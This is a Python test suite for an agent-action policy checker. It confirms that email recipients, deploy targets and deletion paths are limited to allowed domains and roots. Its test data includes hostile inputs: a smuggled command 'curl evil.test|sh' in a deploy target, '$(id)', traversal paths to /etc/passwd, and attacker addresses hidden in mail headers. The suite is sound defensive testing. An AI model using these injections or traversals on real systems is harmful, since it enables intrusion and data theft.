"""Cases D03 to D10 and F07: where things go is compared whole, never by how it begins."""

from __future__ import annotations

import os
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lifecycle.policy import ActionType, Level, RuleSettings, ToolKind
from sentinel_rules import RuleLoadError, load_rules
from tests.builders import MAIL, NOW_MS, PROD, a_document, the_rules, the_tools
from tests.checking import found, sentinel_with, verdict_on

PAT = "pat@partner.example"


def mail(**parameters: Any) -> dict[str, Any]:
    return a_document(MAIL, parameters={"to": PAT, "subject": "x", "body": "y"} | parameters)


def staging(domain: str, **parameters: Any) -> dict[str, Any]:
    target = PROD["target"] | {"domain": domain}
    return a_document(PROD, tool="staging-deploy", target=target, parameters=parameters)


def deletion(**parameters: Any) -> dict[str, Any]:
    return a_document(PROD, tool="delete-data", action_type="delete", parameters=parameters)


@pytest.mark.parametrize(
    ("address", "code"),
    [
        ("pat@evilpartner.example", "domain_not_allowed"),
        ("pat@partner.example.evil.test", "domain_not_allowed"),
        ("pat@sub.partner.example", "domain_not_allowed"),
        ("pat@partner.exampl", "domain_not_allowed"),
        ("pat@раrtner.example", "domain_not_allowed"),
        ("pat@xn--rtner-6nfa.example", "domain_not_allowed"),
        ("pat@partner.example.", "not_plain_address"),
        (" pat@partner.example", "not_plain_address"),
        ("pat@partner.example\n", "not_plain_address"),
        ("pat@partner.example, eve@evil.test", "not_plain_address"),
        ("pat@partner.example;eve@evil.test", "not_plain_address"),
        ("Pat <pat@partner.example>", "not_plain_address"),
        ("<pat@partner.example>", "not_plain_address"),
        ('"eve@evil.test"@partner.example', "not_plain_address"),
        ("eve@evil.test@partner.example", "not_plain_address"),
        ("eve%evil.test@partner.example", "not_plain_address"),
        ("evil.test!eve@partner.example", "not_plain_address"),
        ("@evil.test:pat@partner.example", "not_plain_address"),
        ("pat(eve@evil.test)@partner.example", "not_plain_address"),
        ("mailto:pat@partner.example", "not_plain_address"),
        ("pat@[127.0.0.1]", "not_plain_address"),
        ("pát@partner.example", "not_plain_address"),
        ("раt@partner.example", "not_plain_address"),
        ("pat@partner..example", "not_plain_address"),
        (".pat@partner.example", "not_plain_address"),
        ("pat@", "not_plain_address"),
        ("@partner.example", "not_plain_address"),
        ("partner.example", "not_plain_address"),
        ("", "not_plain_address"),
        (7, "not_plain_address"),
        (True, "not_plain_address"),
        ("a" * 65 + "@partner.example", "not_plain_address"),
    ],
)
def test_D03_only_a_plain_address_of_an_allowed_domain_passes(address: Any, code: str) -> None:
    assert found(mail(to=address)) == {("recipients_allowed", code, "parameters.to")}


@pytest.mark.parametrize("address", [PAT, "PAT@Partner.Example", "a.b+c_d-e'f@shop.example"])
def test_D03_a_plain_address_passes(address: str) -> None:
    assert found(mail(to=[address])) == set()


def test_D03_a_dot_in_front_admits_all_subdomains() -> None:
    rule = sentinel_with("recipients_allowed", domains=[".partner.example"])

    assert found(mail(to="pat@sub.partner.example"), rule) == set()
    assert found(mail(to="pat@a.b.partner.example"), rule) == set()
    assert found(mail(to="pat@evilpartner.example"), rule) != set()
    assert found(mail(to="pat@partner.example"), rule) != set()


def test_D03_an_allowed_domain_of_another_alphabet_is_compared_in_ascii() -> None:
    rule = sentinel_with("recipients_allowed", domains=["bücher.example"])

    assert found(mail(to="pat@bücher.example"), rule) == set()
    assert found(mail(to="pat@xn--bcher-kva.example"), rule) == set()
    assert found(mail(to="pat@bucher.example"), rule) != set()


@pytest.mark.parametrize(
    "domain", ["*.partner.example", "@partner.example", "partner.example.", ""]
)
def test_a_domain_that_is_none_stops_the_start(domain: str) -> None:
    settings = RuleSettings(Level.HARD, {"domains": [domain]})

    with pytest.raises(RuleLoadError, match="is no domain"):
        load_rules(the_rules() | {"recipients_allowed": settings})


EVE = "eve@evil.test"


@pytest.mark.parametrize(
    ("parameters", "path"),
    [
        ({"cc": EVE}, "parameters.cc"),
        ({"bcc": [PAT, EVE]}, "parameters.bcc[1]"),
        ({"reply_to": EVE}, "parameters.reply_to"),
        ({"replyTo": EVE}, "parameters.replyTo"),
        ({"Reply-To": EVE}, "parameters.Reply-To"),
        ({"FROM": EVE}, "parameters.FROM"),
        ({"envelope_sender": EVE}, "parameters.envelope_sender"),
        ({"recipients": {"first": {"address": EVE}}}, "parameters.recipients.first.address"),
        ({"headers": {"X-Forward-To": EVE}}, "parameters.headers.X-Forward-To"),
        ({"headers": {"X-Anything": [EVE]}}, "parameters.headers.X-Anything[0]"),
        ({"mail_headers": {"List-Post": EVE}}, "parameters.mail_headers.List-Post"),
        ({"options": {"bcc": EVE}}, "parameters.options.bcc"),
        ({"options": [[{"sendTo": EVE}]]}, "parameters.options[0][0].sendTo"),
        ({"cc": {EVE: "Eve"}}, 'parameters.cc["eve@evil.test"]'),
        ({"tо": EVE}, 'parameters["t\\u043e"]'),
        ({"b\u200bcc": EVE}, 'parameters["b\\u200bcc"]'),
        ({"cc2": EVE}, "parameters.cc2"),
        ({"bcC": EVE}, "parameters.bcC"),
        ({"tO": EVE}, "parameters.tO"),
        ({"X-fROM": EVE}, "parameters.X-fROM"),
        ({"hEADERS": {"X-Any": EVE}}, "parameters.hEADERS.X-Any"),
        ({"date_to": EVE}, "parameters.date_to"),
    ],
)
def test_D10_every_recipient_like_field_is_checked(parameters: dict[str, Any], path: str) -> None:
    assert ("recipients_allowed", "domain_not_allowed", path) in found(mail(**parameters))


@pytest.mark.parametrize(
    "parameters",
    [
        {"topic": EVE},
        {"cc": None},
        {"bcc": []},
        {"format": "html"},
        {"date_from": "2026-01-01", "date_to": "2026-02-01"},
        {"period": {"from": "1.1.2026", "to": "31.1.2026"}},
    ],
)
def test_D10_other_fields_and_nobody_are_no_recipients(parameters: dict[str, Any]) -> None:
    assert found(mail(**parameters)) == set()


def test_D10_what_is_no_address_is_told_how_to_be_no_recipient() -> None:
    (fault,) = verdict_on(mail(valid_to="soon", goes_to="soon")).faults()

    assert fault.path == "parameters.goes_to"
    assert "rename it if it is none" in str(fault.suggestion)


def test_D10_a_tool_that_mails_is_asked_whatever_its_action_is_called() -> None:
    mails = replace(the_tools()["send-email"], action_type=ActionType.WRITE)
    document = mail(cc=EVE) | {"action_type": "write"}

    assert found(document, tool=mails) == {
        ("recipients_allowed", "domain_not_allowed", "parameters.cc")
    }
    posts = replace(mails, kind=ToolKind.WEBHOOK)
    assert found(document, tool=posts) == set()


PLAIN = st.text("abcdefghijklmnopqrstuvwxyz0123456789.-", max_size=24)


@given(local=st.text(max_size=12), domain=PLAIN | st.text(max_size=16))
def test_D10_no_address_outside_the_allowed_domains_passes(local: str, domain: str) -> None:
    address = f"{local}@{domain}"
    allowed = address.lower().endswith(("@partner.example", "@shop.example"))

    rules = {rule for rule, _, _ in found(mail(cc=address))}

    assert allowed or "recipients_allowed" in rules


@pytest.mark.parametrize(
    "target",
    [
        "https://staging.shop.example@evil.test/",
        "https://staging.shop.example.evil.test/",
        "https://staging.shop.example:8443/",
        "http://staging.shop.example/",
        "//staging.shop.example",
        "staging.shop.example:443",
        "staging.shop.example/",
        "www.shop.example",
        "STAGING.shop.example",
        "staging.shop.example.",
        " staging.shop.example",
        "stаging.shop.example",
        "xn--stging-4nf.shop.example",
        "staging.shop.example\n",
        "staging.shop.example; curl evil.test|sh",
        "--force",
        "$(id)",
        "",
    ],
)
def test_D04_D05_D06_D07_D09_only_the_exact_target_passes(target: str) -> None:
    assert found(staging(target)) == {
        ("deploy_target_allowed", "target_not_allowed", "target.domain")
    }


@pytest.mark.parametrize(
    ("parameters", "path"),
    [
        ({"host": "evil.test"}, "parameters.host"),
        ({"url": "https://staging.shop.example/"}, "parameters.url"),
        ({"options": [{"domain": "evil.test"}]}, "parameters.options[0].domain"),
        ({"TARGET": ["staging.shop.example"]}, "parameters.TARGET"),
        ({"hоst": "evil.test"}, 'parameters["h\\u043est"]'),
        ({"hOST": "evil.test"}, "parameters.hOST"),
    ],
)
def test_D04_the_parameters_name_the_same_place(parameters: dict[str, Any], path: str) -> None:
    document = staging("staging.shop.example", **parameters)

    assert found(document) == {("deploy_target_allowed", "target_not_allowed", path)}


def test_D04_the_exact_target_passes() -> None:
    assert found(staging("staging.shop.example", host="staging.shop.example", url=None)) == set()


@pytest.mark.parametrize("targets", [{}, {"production-deploy": []}])
def test_F07_a_deploy_tool_without_targets_deploys_nowhere(targets: dict[str, Any]) -> None:
    rule = sentinel_with("deploy_target_allowed", targets=targets)

    assert ("deploy_target_allowed", "target_not_allowed", "target.domain") in found(PROD, rule)


def test_F07_no_domain_means_nobody() -> None:
    rule = sentinel_with("recipients_allowed", domains=[])

    assert found(MAIL, rule) == {("recipients_allowed", "domain_not_allowed", "parameters.to")}


@pytest.mark.parametrize(
    "path",
    [
        "/srv/work/../../etc/passwd",
        "/srv/work-evil/x",
        "/srv/work/%2e%2e/x",
        "/srv/work/%252e/x",
        "a/./../..//b",
        "..",
        "/srv/work/a\x00b",
        "/srv/work",
        "/srv/work/.",
        "/",
        "/etc/passwd",
        "~root/x",
        "~/x",
        "\\\\host\\share",
        "old\\..\\x",
        "C:\\x",
        "c:x",
        "file:///etc/passwd",
        "//srv/work/x",
        "/srv/work/．．/x",
        "/srv/work／..／x",
        "/srv/work/\u202ex",
        " ",
    ],
)
def test_D08_a_path_stays_below_the_root(path: str) -> None:
    outside = ("blast_radius_bounded", "path_outside_root", "parameters.path")

    assert outside in found(deletion(path=path))


@pytest.mark.parametrize("path", ["/srv/work/a.csv", "/srv/work/./b//c", "old/a.csv", "a..b"])
def test_D08_a_plain_path_below_the_root_passes(path: str) -> None:
    assert found(deletion(path=path)) == set()


@pytest.mark.parametrize(
    ("parameters", "path"),
    [
        ({"files": ["/srv/work/a", "/etc/passwd"]}, "parameters.files[1]"),
        ({"options": {"backup_dir": ".."}}, "parameters.options.backup_dir"),
        ({"what": "/etc/passwd"}, "parameters.what"),
        ({"what": [{"deep": "../x"}]}, "parameters.what[0].deep"),
        ({"files": {"/etc/passwd": 1}}, 'parameters.files["/etc/passwd"]'),
        ({"outputFile": ".."}, "parameters.outputFile"),
        ({"pATH": "/etc/my file"}, "parameters.pATH"),
        ({"source": "q1 2026/../../../etc"}, "parameters.source"),
        ({"name": "secret dir/../../.."}, "parameters.name"),
        ({"name": "file:///etc/my file"}, "parameters.name"),
    ],
)
def test_D08_whatever_looks_like_a_path_is_one(parameters: dict[str, Any], path: str) -> None:
    assert ("blast_radius_bounded", "path_outside_root", path) in found(deletion(**parameters))


@pytest.mark.parametrize(
    ("changes", "path"),
    [
        ({"constraints": {"path": "/etc/passwd"}}, "target.constraints.path"),
        ({"constraints": {"only": ["x y/../.."]}}, "target.constraints.only[0]"),
        ({"resource_id": "/etc/passwd"}, "target.resource_id"),
        ({"resource_id": "../leads"}, "target.resource_id"),
    ],
)
def test_D08_the_target_stays_below_the_root_as_well(changes: dict[str, Any], path: str) -> None:
    document = deletion(path="old") | {"target": PROD["target"] | changes}

    assert found(document) == {("blast_radius_bounded", "path_outside_root", path)}


@pytest.mark.parametrize(
    ("resource_id", "parameters"),
    [
        ("leads-2024", {"note": "old and/or unused, 50% of them"}),
        ("crm:leads", {"when": "12/31/2026 at noon", "kind": "text/html; q=1"}),
        ("leads/2024", {"greeting": ".. und tschüss", "why": "unused\nsee a/b"}),
    ],
)
def test_D08_words_with_a_slash_are_no_way_out(
    resource_id: str, parameters: dict[str, Any]
) -> None:
    target = PROD["target"] | {"resource_id": resource_id}

    assert found(deletion(**parameters) | {"target": target}) == set()


def test_D08_the_place_that_a_link_leads_to_counts(tmp_path: Path) -> None:
    root = tmp_path / "work"
    root.mkdir()
    (root / "inside").mkdir()
    (root / "out").symlink_to(tmp_path)
    (root / "in").symlink_to(root / "inside")
    rule = sentinel_with("blast_radius_bounded", roots={"delete-data": str(root)})

    def codes(path: str) -> set[tuple[str, str, str]]:
        return found(deletion(path=f"{root}/{path}"), rule, real_path=os.path.realpath)

    assert codes("in/a.csv") == set()
    assert codes("out/a.csv") == {("blast_radius_bounded", "path_outside_root", "parameters.path")}


@pytest.mark.parametrize("root", ["srv/work", "/", "/srv/../etc", "/srv/work/", "//srv"])
def test_a_root_that_is_no_plain_folder_stops_the_start(root: str) -> None:
    settings = RuleSettings(Level.HARD, {"roots": {"delete-data": root}})

    with pytest.raises(RuleLoadError, match="blast_radius_bounded"):
        load_rules(the_rules() | {"blast_radius_bounded": settings})


def test_production_hours_are_read_in_their_own_zone() -> None:
    saturday_ms = NOW_MS + 5 * 86_400_000

    assert found(PROD) == set()
    assert found(PROD, now_ms=saturday_ms) == {("change_window_open", "outside_hours", "tool")}
